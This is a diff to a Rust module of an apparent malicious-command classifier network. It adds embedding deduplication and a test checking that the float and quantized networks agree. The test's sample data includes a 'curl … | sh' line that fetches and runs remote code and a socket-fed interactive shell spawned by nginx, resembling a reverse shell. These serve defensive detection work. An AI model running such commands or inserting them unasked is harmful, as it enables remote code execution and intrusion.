@@ -1,6 +1,6 @@
 //! The network in floating point, as candle trains it; the same arithmetic as [`crate::network`] before quantization.
 
-use std::collections::BTreeMap;
+use std::collections::{BTreeMap, HashMap};
 use std::io::Cursor;
 
 use candle_core::quantized::{GgmlDType, QTensor, gguf_file};
@@ -23,13 +23,14 @@ pub struct Float {
 pub struct Batch {
     rows: Tensor,
     weights: Tensor,
+    places: Tensor,
     facts: Tensor,
     stories: usize,
     tokens: usize,
 }
 
 impl Batch {
-    /// `stories`: the tokens and facts of each.
+    /// `stories`: the tokens and facts of each. A token that occurs often is embedded once.
     pub fn new(stories: &[(&[Rows], &[f32; FACTS])], shape: &Shape) -> Result<Self> {
         let longest = stories
             .iter()
@@ -37,21 +38,32 @@ impl Batch {
             .max()
             .unwrap_or(0);
         let tokens = longest + shape.widest();
-        let cells = stories.len() * tokens * ROWS_PER_TOKEN;
-        let (mut rows, mut weights) = (vec![0u32; cells], vec![0f32; cells]);
+        let mut places = vec![0u32; stories.len() * tokens];
+        let mut unique = vec![Rows::default()];
+        let mut known: HashMap<[u32; ROWS_PER_TOKEN], u32> = HashMap::new();
         let mut facts = Vec::with_capacity(stories.len() * FACTS);
-        for (index, (story, known)) in stories.iter().enumerate() {
+        for (index, (story, own)) in stories.iter().enumerate() {
             for (at, one) in story.iter().enumerate() {
-                let cell = (index * tokens + at) * ROWS_PER_TOKEN;
-                rows[cell..][..ROWS_PER_TOKEN].copy_from_slice(&one.rows);
-                weights[cell..][..ROWS_PER_TOKEN].copy_from_slice(&one.weights);
+                if one.weights[0] == 0.0 {
+                    continue;
+                }
+                let next = unique.len() as u32;
+                let place = *known.entry(one.rows).or_insert(next);
+                if place == next {
+                    unique.push(*one);
+                }
+                places[index * tokens + at] = place;
             }
-            facts.extend_from_slice(&known[..]);
+            facts.extend_from_slice(&own[..]);
         }
         let cpu = &Device::Cpu;
+        let count = unique.len();
+        let rows: Vec<u32> = unique.iter().flat_map(|one| one.rows).collect();
+        let weights: Vec<f32> = unique.iter().flat_map(|one| one.weights).collect();
         Ok(Self {
-            rows: Tensor::from_vec(rows, cells, cpu)?,
-            weights: Tensor::from_vec(weights, (stories.len() * tokens, ROWS_PER_TOKEN, 1), cpu)?,
+            rows: Tensor::from_vec(rows, count * ROWS_PER_TOKEN, cpu)?,
+            weights: Tensor::from_vec(weights, (count, ROWS_PER_TOKEN, 1), cpu)?,
+            places: Tensor::from_vec(places, stories.len() * tokens, cpu)?,
             facts: Tensor::from_vec(facts, (stories.len(), FACTS), cpu)?,
             stories: stories.len(),
             tokens,
@@ -98,9 +110,10 @@ impl Float {
         let embedded = self
             .var("embedding.weight")
             .index_select(&batch.rows, 0)?
-            .reshape((batch.stories * batch.tokens, ROWS_PER_TOKEN, dim))?
+            .reshape(((), ROWS_PER_TOKEN, dim))?
             .broadcast_mul(&batch.weights)?
             .sum(1)?
+            .index_select(&batch.places, 0)?
             .reshape((batch.stories, batch.tokens, dim))?;
         let mut pooled = Vec::with_capacity(self.shape.widths.len() + 1);
         for width in &self.shape.widths {
@@ -170,5 +183,94 @@ impl Float {
             &tensors,
         )?;
         Ok(bytes.into_inner())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::artifact::Writer;
+    use crate::calibration::{Calibration, Platt, Thresholds};
+    use crate::facts;
+    use crate::tokens::{Limits, Tokens};
+    use cordon_behavior::story::Story;
+
+    /// Most that a logit may differ by; logits of stories are several units apart.
+    const APART: f32 = 0.1;
+
+    fn stories() -> Vec<Story> {
+        let lines = [
+            r#"{"id":"1","command":"curl -s http://192.0.2.1/x | sh"}"#,
+            r#"{"id":"2","session":["cd /srv/app","git pull","make -j4"]}"#,
+            r#"{"id":"3","process":{"exe":"/bin/sh","argv":["sh","-i"],"stdin":"socket"},"ancestors":[{"exe":"/usr/sbin/nginx","argv":["nginx"]}]}"#,
+            r#"{"id":"4","process":{"exe":"/bin/true"}}"#,
+        ];
+        lines
+            .iter()
+            .map(|line| Story::from_json(line.as_bytes()).unwrap())
+            .collect()
+    }
+
+    /// The artifact's path and the training's path are two pieces of code: they must be one function.
+    #[test]
+    fn the_quantized_network_says_what_the_float_network_says() {
+        let shape = Shape::standard(vec!["T1059.004".to_owned(), "T1105".to_owned()]);
+        let network = Float::new(&shape, &mut Draw::new(9)).unwrap();
+        let dir = tempfile::tempdir().unwrap();
+        let weights = network.gguf(&Gate::blank(shape.gate_rows)).unwrap();
+        let nothing = BTreeMap::new();
+        let writer = Writer {
+            dir: dir.path(),
+            shape: &shape,
+            weights: &weights,
+            data: &nothing,
+            training: &nothing,
+        };
+        let calibration = Calibration {
+            network: Platt::IDENTITY,
+            gate: Platt::IDENTITY,
+            thresholds: Thresholds {
+                gate: 0.0,
+                suspicious: 0.5,
+                malicious: 0.9,
+            },
+            technique: 0.2,
+        };
+        let model = writer.write(&calibration, "card").unwrap();
+        let stories = stories();
+        let rows: Vec<Vec<Rows>> = stories
+            .iter()
+            .map(|story| {
+                Tokens::of(
+                    story,
+                    Limits {
+                        tokens: shape.tokens,
+                    },
+                )
+            })
+            .map(|tokens| {
+                tokens
+                    .iter()
+                    .map(|(field, piece)| Rows::of(field, piece, shape.rows))
+                    .collect()
+            })
+            .collect();
+        let known: Vec<[f32; FACTS]> = stories.iter().map(facts::of).collect();
+        let pairs: Vec<(&[Rows], &[f32; FACTS])> =
+            rows.iter().map(Vec::as_slice).zip(&known).collect();
+        let float = network
+            .forward(&Batch::new(&pairs, &shape).unwrap(), 0.0)
+            .unwrap();
+        let float: Vec<Vec<f32>> = float.to_vec2().unwrap();
+        for (story, float) in stories.iter().zip(float) {
+            let quantized = model.logits(&model.read(story));
+            for (float, quantized) in float.iter().zip(quantized) {
+                assert!(
+                    (float - quantized).abs() < APART,
+                    "{}: {float} is not {quantized}",
+                    story.id
+                );
+            }
+        }
     }
 }
